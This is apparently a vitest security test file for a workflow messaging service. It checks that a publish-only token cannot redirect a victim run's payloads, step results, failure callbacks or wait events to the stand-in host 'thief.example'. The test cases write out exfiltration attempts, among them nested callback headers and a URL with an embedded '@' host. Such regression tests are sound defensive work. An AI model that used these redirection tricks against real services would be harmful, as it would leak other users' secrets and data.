import { expect, test } from "vitest";
import { testTime, createTestServer } from "../../testServer.ts";
import type { TestServer, Reply } from "../../testServer.ts";
import { endpoint } from "./workflow.ts";
import type { Headers } from "./workflowPosts.ts";
import { readHistory, sendBatch, callHeaders, startHeaders, step, stepHeaders } from "./workflowPosts.ts";

// A token with the verb publish, but not read, knows the id of a run. It tries to have the contents of the
// run
// sent to its own URL.

const own = "https://thief.example/x";
const secret = "s3cret";

type Thief = TestServer & {
  post(url: string, headers: Headers, content?: { body?: string; token?: string }): Promise<Reply>;
  token: string;
  both: string;
};

async function thief(): Promise<Thief> {
  const server = await createTestServer();
  const tokenWith = async (verbs: string[]): Promise<string> =>
    (await server.ask("POST", "/v2/tokens", { body: JSON.stringify({ verbs }) })).body.token;
  const token = await tokenWith(["publish"]);
  const both = await tokenWith(["publish", "read"]);
  const headers = startHeaders("victim", { "upstash-forward-authorization": `Bearer ${secret}` });
  await sendBatch(server, [{ headers, body: `payload ${secret}` }]);
  await sendBatch(server, [{ headers: stepHeaders("victim"), body: step({ out: secret }) }]);
  server.deliveries.splice(0);
  const post: Thief["post"] = (url, headers, { body = "", token: as = token } = {}) =>
    server.ask("POST", `/v2/publish/${url}`, { headers, body, token: as });
  return { ...server, post, token, both };
}

const refused = {
  status: 403,
  body: {
    error: expect.stringMatching(
      /^token: requires 'read' to send .* to https:\/\/thief\.example\/x; this token has only 'publish'/,
    ),
  },
};

/** Checks that no contents of the run were sent, or will be sent, to the thief. */
function expectNothingStolen({ deliveries, memory }: TestServer): void {
  const stored = [...memory.tables.storedMessages.values()].filter(({ url }) => url.startsWith(own));
  const sent = deliveries.filter(({ message }) => message.url.startsWith(own));
  for (const { body, headers } of [...stored, ...sent.map(({ message }) => message)])
    expect(Buffer.from(body).toString() + JSON.stringify(headers)).not.toMatch(
      new RegExp(`${secret}|${btoa(secret).slice(0, 6)}`),
    );
}

test("a publish-only token cannot post a step to another URL", async () => {
  const server = await thief();
  const body = step({ stepId: 2 });
  expect(await server.post(own, stepHeaders("victim"), { body })).toMatchObject(refused);
  expect(
    await sendBatch(server, [{ destination: own, headers: stepHeaders("victim"), body }], server.token),
  ).toMatchObject({ status: 403 });
  expect(await server.post(`${endpoint}@thief.example/x`, stepHeaders("victim"), { body })).toMatchObject({
    status: 403,
  });
  expect(await server.post(`${endpoint}?other`, stepHeaders("victim"), { body })).toMatchObject({
    status: 403,
  });
  expect(server.deliveries).toEqual([]);
  expect(await server.post(endpoint, stepHeaders("victim"), { body })).toMatchObject({ status: 200 });
  expect(
    await server.post(own, stepHeaders("victim"), { body: step({ stepId: 3 }), token: server.both }),
  ).toMatchObject({
    status: 200,
  });
});

test("a publish-only token cannot have a third party's response sent to another URL", async () => {
  const server = await thief();
  const call = callHeaders("victim");
  expect(await server.post("https://third.example/", { ...call, "upstash-callback": own })).toMatchObject(
    refused,
  );
  expect(
    await server.post("https://third.example/", { ...call, "upstash-callback-callback": own }),
  ).toMatchObject({ status: 403 });
  expect(server.deliveries).toEqual([]);
  // The caller's own content may go to any URL.
  expect(await server.post(own, call, { body: "mine" })).toMatchObject({ status: 200 });
  expect(server.delivery().message).toMatchObject({ url: own });
  expectNothingStolen(server);
});

test("a publish-only token cannot start an existing run again at another URL", async () => {
  const server = await thief();
  const again = startHeaders("victim", { "upstash-workflow-trigger-by-sdk": "true" });
  expect(await server.post(own, again, { body: "x" })).toMatchObject(refused);
  for (const name of ["upstash-failure-callback", "upstash-failure-callback-failure-callback"])
    expect(
      await server.post(
        endpoint,
        { ...again, "upstash-failure-callback": endpoint, [name]: own },
        { body: "x" },
      ),
    ).toMatchObject(refused);
  expect(server.deliveries).toEqual([]);
  expect(
    await server.post(endpoint, { ...again, "upstash-failure-callback": endpoint }, { body: "x" }),
  ).toMatchObject({
    status: 200,
  });
  expect(server.delivery().message).toMatchObject({ url: endpoint });
});

test("a publish-only token cannot have the event of a waiting step sent to another URL", async () => {
  const server = await thief();
  const wait = (more: object): Promise<Reply> => {
    const waiting = {
      url: endpoint,
      timeoutUrl: endpoint,
      step: { stepId: 2, stepName: "w", stepType: "Wait", concurrent: 1 },
      ...more,
    };
    return server.ask("POST", "/v2/wait/e", {
      headers: stepHeaders("victim"),
      body: JSON.stringify(waiting),
      token: server.token,
    });
  };
  expect(await wait({ url: own })).toMatchObject(refused);
  expect(await wait({ timeoutUrl: own })).toMatchObject(refused);
  expect((await server.ask("GET", "/v2/waiters/e")).body).toEqual([]);
  expect(await wait({})).toMatchObject({ status: 200, body: { waits: true } });
});

test("a publish-only token cannot have the result of an invoked run sent to another URL", async () => {
  const server = await thief();
  const invoke = (workflowUrl: string) =>
    JSON.stringify({
      body: "",
      headers: {},
      workflowRunId: "victim",
      workflowRunCreatedAt: testTime,
      workflowUrl,
      step: { stepId: 2, stepName: "i", stepType: "Invoke", concurrent: 1 },
    });
  const headers = startHeaders("child", { "upstash-workflow-url": own, "upstash-workflow-invoke": "true" });
  expect(await server.post(own, headers, { body: invoke(own) })).toMatchObject(refused);
  expect(await server.post(own, headers, { body: invoke(endpoint) })).toMatchObject({ status: 200 });
  await server.ask("DELETE", "/v2/workflows/runs/child?cancel=false", { token: server.token, body: "done" });
  expect(server.deliveries.map(({ message }) => message.url)).toEqual([own, endpoint]);
  expectNothingStolen(server);
});

test("a publish-only token cannot start a run whose workflow URL differs from the destination", async () => {
  const server = await thief();
  expect(
    await server.post(endpoint, startHeaders("mine", { "upstash-workflow-url": own }), { body: "x" }),
  ).toMatchObject(refused);
  const older = startHeaders("mine", { "upstash-feature-set": "LazyFetch", "upstash-failure-callback": own });
  expect(await server.post(endpoint, older, { body: "x" }), "the whole history").toMatchObject(refused);
  expect(
    await server.post(endpoint, startHeaders("mine", { "upstash-failure-callback": own }), { body: "x" }),
    "what was posted",
  ).toMatchObject({
    status: 200,
  });
  expect(await server.ask("POST", `/v2/trigger/${endpoint}`, { token: server.token })).toMatchObject({
    status: 200,
  });
});

test("a notification shows the waiting runs only to tokens that may read", async () => {
  const server = await thief();
  const answers: unknown[] = [];
  for (const [token, path] of [
    [server.token, "e"],
    [server.token, "victim/e"],
    [server.both, "e"],
  ] as const) {
    const waiting = {
      url: endpoint,
      step: { stepId: 2 + answers.length, stepName: "w", stepType: "Wait", concurrent: 1 },
    };
    await server.ask("POST", "/v2/wait/e", { headers: stepHeaders("victim"), body: JSON.stringify(waiting) });
    answers.push((await server.ask("POST", `/v2/notify/${path}`, { token, body: "e" })).body);
  }
  const blind = {
    waiter: { url: "", headers: {} },
    messageId: expect.any(String),
    url: "",
    deduplicated: false,
  };
  expect(answers).toEqual([
    [{ ...blind, workflowRunId: "" }],
    [{ ...blind, workflowRunId: "victim" }],
    [expect.objectContaining({ url: endpoint, workflowRunId: "victim", workflowCreatedAt: testTime })],
  ]);
});

test("a publish-only token cannot have a failure of a run reported to another URL", async () => {
  const server = await thief();
  const older = { "upstash-feature-set": "LazyFetch,InitialBody,WF_DetectTrigger" };
  const known = { "upstash-failure-callback": "https://app.example/failed" };
  const body = `payload ${secret}`;
  await sendBatch(server, [{ headers: startHeaders("older", { ...older, ...known }), body }]);
  const attempts: Headers[] = [
    { "upstash-failure-callback": own },
    { "upstash-failure-callback": endpoint, "upstash-failure-callback-failure-callback": own },
    { "upstash-failure-callback": endpoint, "upstash-failure-callback-callback": own },
  ];
  for (const headers of attempts) {
    const post = stepHeaders("older", { ...older, ...headers });
    expect(await server.post(endpoint, post, { body: step() })).toMatchObject(refused);
    expect(await sendBatch(server, [{ headers: post, body: step() }], server.token)).toMatchObject({
      status: 403,
    });
    const waiting = {
      url: endpoint,
      step: { stepId: 1, stepName: "w", stepType: "Wait", concurrent: 1 },
    };
    const wait = { headers: post, body: JSON.stringify(waiting), token: server.token };
    expect(await server.ask("POST", "/v2/wait/e", wait)).toMatchObject(refused);
    const invocation = {
      headers: Object.fromEntries(Object.entries(headers).map(([name, value]) => [name, [value]])),
      workflowRunId: "older",
      workflowUrl: endpoint,
      step: { stepId: 1, stepName: "i", stepType: "Invoke", concurrent: 1 },
    };
    const invoke = startHeaders("child", { "upstash-workflow-invoke": "true" });
    expect(await server.post(endpoint, invoke, { body: JSON.stringify(invocation) })).toMatchObject(refused);
  }
  const call = callHeaders("older", { "upstash-callback-failure-callback": own });
  expect(await server.post("https://third.example/", call)).toMatchObject(refused);
  expect(await readHistory(server, "older")).toHaveLength(1);
  // The URLs of the run itself, and any URL with a token that may read.
  const allowed = [endpoint, "https://app.example/failed"];
  for (const [at, url] of allowed.entries())
    expect(
      await server.post(endpoint, stepHeaders("older", { "upstash-failure-callback": url }), {
        body: step({ stepId: at + 1 }),
      }),
    ).toMatchObject({ status: 200 });
  expect(
    await server.post(endpoint, stepHeaders("older", { "upstash-failure-callback": own }), {
      body: step({ stepId: 3 }),
      token: server.both,
    }),
  ).toMatchObject({ status: 200 });
  expectNothingStolen(server);
});

test("a failure callback in a step changes nothing if the run keeps the settings of its start", async () => {
  const server = await thief();
  const post = stepHeaders("victim", { "upstash-failure-callback": own });
  expect(await server.post(endpoint, post, { body: step({ stepId: 2 }) })).toMatchObject({ status: 200 });
  expect(server.delivery().message).toMatchObject({ failureCallback: null });
  expectNothingStolen(server);
});
